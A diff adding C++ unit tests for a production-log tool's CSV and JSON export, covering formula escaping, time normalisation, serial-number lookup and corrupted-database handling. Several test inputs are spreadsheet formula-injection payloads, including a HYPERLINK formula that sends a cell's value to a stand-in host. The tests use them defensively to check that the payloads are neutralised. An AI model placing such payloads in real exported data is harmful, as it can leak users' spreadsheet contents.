@@ -58,6 +58,25 @@ TEST(CsvField, QuotesOnlyWhatNeedsIt)
         EXPECT_EQ(CsvField(in).toStdString(), out);
 }
 
+// A text cell a spreadsheet would read as a formula starts with an apostrophe.
+TEST(CsvText, KeepsFormulasFromSpreadsheets)
+{
+    const std::pair<const char*, const char*> rows[] = {
+        {"=HYPERLINK(\"http://x/?\"&A1)", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\""},
+        {"@SUM(1+1)", "'@SUM(1+1)"},
+        {"+1", "'+1"},
+        {"-25", "'-25"},
+        {"\tCOM1", "'\tCOM1"},
+        {"\rx", "\"'\rx\""},
+        {"COM=1", "COM=1"},
+        {" =1", " =1"},
+        {"'quoted", "'quoted"},
+        {"", ""},
+    };
+    for (const auto& [in, out] : rows)
+        EXPECT_EQ(CsvText(in).toStdString(), out) << in;
+}
+
 TEST(NormaliseTime, AcceptsDatesAndZonesGivesUtc)
 {
     const std::pair<const char*, const char*> rows[] = {
@@ -66,6 +85,10 @@ TEST(NormaliseTime, AcceptsDatesAndZonesGivesUtc)
         {"2026-12-07T13:05:00", "2026-12-07T13:05:00.000Z"},
         {"2026-12-07T15:05:00+02:00", "2026-12-07T13:05:00.000Z"},
         {"2026-12-07T00:30:00.250-01:00", "2026-12-07T01:30:00.250Z"},
+        {"2026-12-07T18:35:00+0530", "2026-12-07T13:05:00.000Z"},
+        // Past the last time a record holds, or before the first: every row is before, or after.
+        {"9999-12-31T23:00:00-05:00", "9999-12-31T24:00:00.000Z"},
+        {"0001-01-01T00:30:00+01:00", "0000-01-01T00:00:00.000Z"},
         {"yesterday", ""},
         {"2026-13-01", ""},
         {"", ""},
@@ -171,10 +194,15 @@ TEST_F(LogTool, FiltersSummaryAndFind)
               "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\t4\t2\t2\t0\t50.0%\n"
               "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\t2\t2\t0\t0\t100.0%\n");
 
+    // An offset that carries --since past the year 9999: after every row.
+    ASSERT_EQ(Run({"export", "--format", "csv", "--since", "9999-12-31T23:00:00-05:00"}), 0) << Err.str();
+    const std::string late = Out.str();
+    EXPECT_EQ(std::count(late.begin(), late.end(), '\n'), 1) << "header only";
+
     ASSERT_EQ(Run({"find", "1003"}), 0);
     const std::string found = Out.str();
     EXPECT_EQ(std::count(found.begin(), found.end(), '\n'), 2) << found;
-    EXPECT_NE(found.find("\r\n00000000-0000-4000-8000-000000000003,"), std::string::npos);
+    EXPECT_NE(found.find("\r\nnumber written,00000000-0000-4000-8000-000000000003,"), std::string::npos);
     ASSERT_EQ(Run({"find", "1007"}), 0);  // attempt 7 carried no number
     const std::string none = Out.str();
     EXPECT_EQ(std::count(none.begin(), none.end(), '\n'), 1) << "header only";
@@ -248,4 +276,87 @@ TEST_F(LogTool, ThousandAttemptsSurviveACsvReader)
     EXPECT_EQ(cell(5, "step"), "Verify");
     EXPECT_EQ(cell(5, "error_code"), "-25");
     EXPECT_EQ(cell(1000, "started_at"), "2026-03-02T08:16:40.000Z");
+}
+
+// Hostile texts in a row that any station of a line can write: CSV keeps
+// them from a spreadsheet's formulas, numbers stay numbers, JSON carries
+// them as they are.
+TEST_F(LogTool, FormulasInTextCellsAreDefusedInCsvOnly)
+{
+    CAttempt hostile = SampleAttempt(20);  // fails with error code -25
+    hostile.Port = "=HYPERLINK(\"http://x/?\"&A1)";
+    hostile.Device = "@SUM(1+1)";
+    hostile.Operator = "-op";
+    {
+        CProductionRecord record;
+        ASSERT_TRUE(record.Open(Path));
+        ASSERT_TRUE(record.Insert(hostile));
+    }
+    ASSERT_EQ(Run({"export", "--format", "csv", "--serial", "1020"}), 0) << Err.str();
+    const std::string csv = Out.str();
+    EXPECT_NE(csv.find(",'-op,\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",115200,'@SUM(1+1),31,3.3,"), std::string::npos)
+        << csv;
+    EXPECT_NE(csv.find(",failed,Verify,\"Unable to verify (FFFFFFE7)\nunit 20, \"\"bad\"\" cell\",-25,\r\n"),
+              std::string::npos) << csv;
+    ASSERT_EQ(Run({"export", "--format", "json", "--serial", "1020"}), 0) << Err.str();
+    const QJsonObject o = QJsonDocument::fromJson(QByteArray::fromStdString(Out.str())).array()[0].toObject();
+    EXPECT_EQ(o["port"].toString(), hostile.Port);
+    EXPECT_EQ(o["device"].toString(), "@SUM(1+1)");
+    EXPECT_EQ(o["operator"].toString(), "-op");
+    EXPECT_EQ(o["error_code"].toInt(), -25);
+}
+
+// find lists every attempt that carried the number; the first column tells
+// which one wrote it to a unit.
+TEST_F(LogTool, FindMarksTheAttemptThatWroteTheNumber)
+{
+    CAttempt reserved = SampleAttempt(11), wrote = SampleAttempt(12), lost = SampleAttempt(13);
+    reserved.SerialValue = wrote.SerialValue = lost.SerialValue = 4711;
+    reserved.Result = "failed";
+    reserved.SerialWritten = false;
+    lost.Result = "interrupted";
+    lost.SerialWritten.reset();
+    {
+        CProductionRecord record;
+        ASSERT_TRUE(record.Open(Path));
+        ASSERT_TRUE(record.InsertAll({reserved, wrote, lost}));
+    }
+    ASSERT_EQ(Run({"find", "4711"}), 0) << Err.str();
+    std::istringstream lines(Out.str());
+    std::string line;
+    QStringList marks;
+    while (std::getline(lines, line))
+        marks << QString::fromStdString(line.substr(0, line.find(',')));
+    EXPECT_EQ(marks, (QStringList{"on_unit", "number not written", "number written", "number unknown"}));
+}
+
+// The export streams: a record damaged near its end gives the rows before
+// the damage, then the reason and exit status 2 (never a clean end).
+TEST_F(LogTool, ADamagedRecordExportsTheRowsBeforeTheDamageAndExitsTwo)
+{
+    {
+        CProductionRecord record;
+        ASSERT_TRUE(record.Open(Path));
+        QList<CAttempt> rows;
+        for (int i = 11; i <= 1000; ++i)
+            rows.append(SampleAttempt(i));
+        ASSERT_TRUE(record.InsertAll(rows));
+    }
+    // The table page that holds attempt 900's error text gets a page type
+    // that no page has.
+    QFile file(Path);
+    ASSERT_TRUE(file.open(QIODevice::ReadWrite));
+    const QByteArray bytes = file.readAll();
+    const qsizetype at = bytes.indexOf("unit 900, \"bad\" cell");
+    ASSERT_GT(at, 0);
+    const int pageSize = (static_cast<uchar>(bytes[16]) << 8) | static_cast<uchar>(bytes[17]);
+    ASSERT_TRUE(file.seek(at / pageSize * pageSize) && file.write("\x7f", 1) == 1);
+    file.close();
+
+    for (const char* format : {"csv", "json"}) {
+        EXPECT_EQ(Run({"export", "--format", format}), 2) << format;
+        EXPECT_NE(Err.str().find("cannot be read:\n" + Path.toStdString()), std::string::npos) << Err.str();
+        EXPECT_NE(Out.str().find("00000000-0000-4000-8000-000000000800"), std::string::npos) << format;
+        EXPECT_EQ(Out.str().find("00000000-0000-4000-8000-000000001000"), std::string::npos) << format;
+    }
 }
